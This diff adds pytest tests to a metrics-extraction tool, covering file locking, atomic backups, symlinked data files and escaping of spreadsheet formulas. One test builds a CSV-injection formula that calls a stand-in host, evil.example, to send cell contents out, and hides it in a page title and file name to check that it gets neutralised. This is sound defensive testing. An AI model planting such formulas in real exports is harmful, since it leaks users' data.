@@ -9,12 +9,14 @@ import pytest
 from kreport.dataset.validate import check
 from kreport.errors import DataError
 from kreport.extract import extract
+from kreport.files import DATA_LOCK_NAME
 
 RELEASE = Path(__file__).resolve().parent.parent / "fixtures" / "extract" / "kuaishou-2025q4-synthetic-zh-hant.txt"
 
 
 def snapshot(folder: Path) -> dict[str, bytes]:
-    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
+    """Every file of ``folder`` but the data lock (an empty file that stays once made)."""
+    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.name != DATA_LOCK_NAME}
 
 
 def test_the_new_rows_and_their_source_are_appended_and_the_old_bytes_kept(synthetic_data_copy):
@@ -65,3 +67,105 @@ def test_excel_line_ends_are_kept(synthetic_data_copy):
     extract([RELEASE], data_dir=synthetic_data_copy).apply()
     metrics = (synthetic_data_copy / "metrics.csv").read_bytes()
     assert metrics.count(b"\r\n") == metrics.count(b"\n")
+
+
+# --- issue 24: one lock, backups through a temporary name, links kept, formulas neutralised ------------------
+
+def test_a_symlinked_metrics_file_stays_a_link_and_its_target_is_written(synthetic_data_copy, tmp_path):
+    real = tmp_path / "elsewhere" / "metrics.csv"
+    real.parent.mkdir()
+    (synthetic_data_copy / "metrics.csv").rename(real)
+    (synthetic_data_copy / "metrics.csv").symlink_to(real)
+    before = real.read_bytes()
+    applied = extract([RELEASE], data_dir=synthetic_data_copy).apply()
+    assert (synthetic_data_copy / "metrics.csv").is_symlink()
+    assert real.read_bytes().startswith(before) and real.read_bytes().count(b"\n") == before.count(b"\n") + 5
+    assert not [p for p in real.parent.iterdir() if p.name != "metrics.csv"]
+    assert {p.read_bytes() for p in applied.backups if p.name.startswith("metrics.csv")} == {before}
+
+
+def test_a_backup_is_never_left_half_written_under_its_name(synthetic_data_copy, monkeypatch):
+    """Issue 24 item 3: backups were copied straight to their final name; now through a temporary one."""
+    import os
+
+    before = snapshot(synthetic_data_copy)
+    real_replace = os.replace
+
+    def interrupted(source, target):
+        if ".bak-" in str(target):
+            raise KeyboardInterrupt  # as if killed while the backup was being written
+        return real_replace(source, target)
+
+    monkeypatch.setattr(os, "replace", interrupted)
+    with pytest.raises(KeyboardInterrupt):
+        extract([RELEASE], data_dir=synthetic_data_copy).apply()
+    assert snapshot(synthetic_data_copy) == before  # no backup under its name, no temporary file
+
+
+def test_a_run_refused_at_its_sources_comparison_writes_no_backup(synthetic_data_copy, monkeypatch):
+    """Issue 24 item 2: the metrics.csv backup used to be written before sources.csv was compared."""
+    from kreport.extract import apply as apply_module
+
+    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
+    real_check = apply_module.check
+
+    def check_then_edit(folder):
+        report = real_check(folder)
+        if Path(folder) != synthetic_data_copy:  # the trial copy: an editor saves sources.csv meanwhile
+            with open(synthetic_data_copy / "sources.csv", "a", encoding="utf-8") as handle:
+                handle.write("\n")
+        return report
+
+    monkeypatch.setattr(apply_module, "check", check_then_edit)
+    with pytest.raises(DataError, match="sources.csv: --apply wrote nothing: the file changed while it was being read"):
+        extraction.apply()
+    assert not [p for p in synthetic_data_copy.iterdir() if ".bak-" in p.name or p.name.endswith(".tmp")]
+
+
+def test_apply_waits_for_the_data_lock_and_refuses_when_it_stays_taken(synthetic_data_copy, monkeypatch):
+    """Issue 24 items 2 and 6: one exclusive lock, .kreport-data.lock in the data folder, for --apply and the build."""
+    from filelock import FileLock
+
+    from kreport import files
+
+    before = snapshot(synthetic_data_copy)
+    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
+    monkeypatch.setattr(files, "DATA_LOCK_TIMEOUT", 0.2)
+    with FileLock(str(synthetic_data_copy / DATA_LOCK_NAME)):  # a build reading the data, or another --apply
+        with pytest.raises(files.DataLockBusy, match=r"\.kreport-data\.lock: another kreport process"):
+            extraction.apply()
+    assert snapshot(synthetic_data_copy) == before
+    assert extraction.apply().metrics_added == 5  # free again
+
+
+def test_rows_another_run_appended_meanwhile_are_not_appended_again(synthetic_data_copy):
+    first, second = (extract([RELEASE], data_dir=synthetic_data_copy) for _ in range(2))
+    assert first.apply().metrics_added == 5
+    applied = second.apply()  # read before the first wrote: every row still says "new"
+    assert (applied.metrics_added, applied.sources_added) == (0, 0)
+    assert check(synthetic_data_copy).ok and not check(synthetic_data_copy).warnings
+
+
+def test_a_row_another_run_contradicted_meanwhile_is_refused(synthetic_data_copy):
+    extraction = extract([RELEASE], data_dir=synthetic_data_copy)
+    with open(synthetic_data_copy / "metrics.csv", "a", encoding="utf-8") as handle:
+        handle.write("kuaishou,dau,2025Q4,430,,million,reported,t-ks-2025,added by hand meanwhile,\n")
+    before = snapshot(synthetic_data_copy)
+    with pytest.raises(DataError, match="kuaishou dau 2025Q4 was added meanwhile as 430 million"):
+        extraction.apply()
+    assert snapshot(synthetic_data_copy) == before
+
+
+def test_a_page_title_that_is_a_formula_is_neutralised_in_sources_csv(synthetic_data_copy, tmp_path):
+    """Issue 24 item 4: an HTML <title> went verbatim into sources.csv and on into the data report's download."""
+    text = RELEASE.read_text(encoding="utf-8")
+    page = tmp_path / "=cmd.html"
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"results")'
+    page.write_text(f"<html><head><title>{formula}</title></head><body><pre>{text}</pre></body></html>", encoding="utf-8")
+    extraction = extract([page], data_dir=synthetic_data_copy)
+    source = extraction.files[0].source
+    assert (source.title, source.read_at) == ("'" + formula, "'=cmd.html")
+    extraction.apply()
+    report = check(synthetic_data_copy)
+    row = next(r for r in report.tables["sources.csv"] if r["source_id"] == source.source_id)
+    assert row["title"] == "'" + formula and report.ok and not report.warnings
